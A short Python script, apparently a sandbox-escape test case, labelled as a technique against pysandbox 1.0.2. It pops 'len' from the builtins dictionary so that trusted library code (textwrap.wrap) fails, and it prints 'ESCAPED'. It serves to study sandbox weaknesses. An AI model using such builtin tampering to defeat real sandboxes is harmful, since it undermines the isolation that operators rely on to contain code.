# technique: dict.pop takes a builtin away from trusted code
# goal: bend
# source: pysandbox 1.0.2, builtins changed by dict methods
import textwrap
b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
dict.pop(b, 'len')
try:
    textwrap.wrap('some words', 3)
except NameError as error:
    print('ESCAPED trusted code says', error)
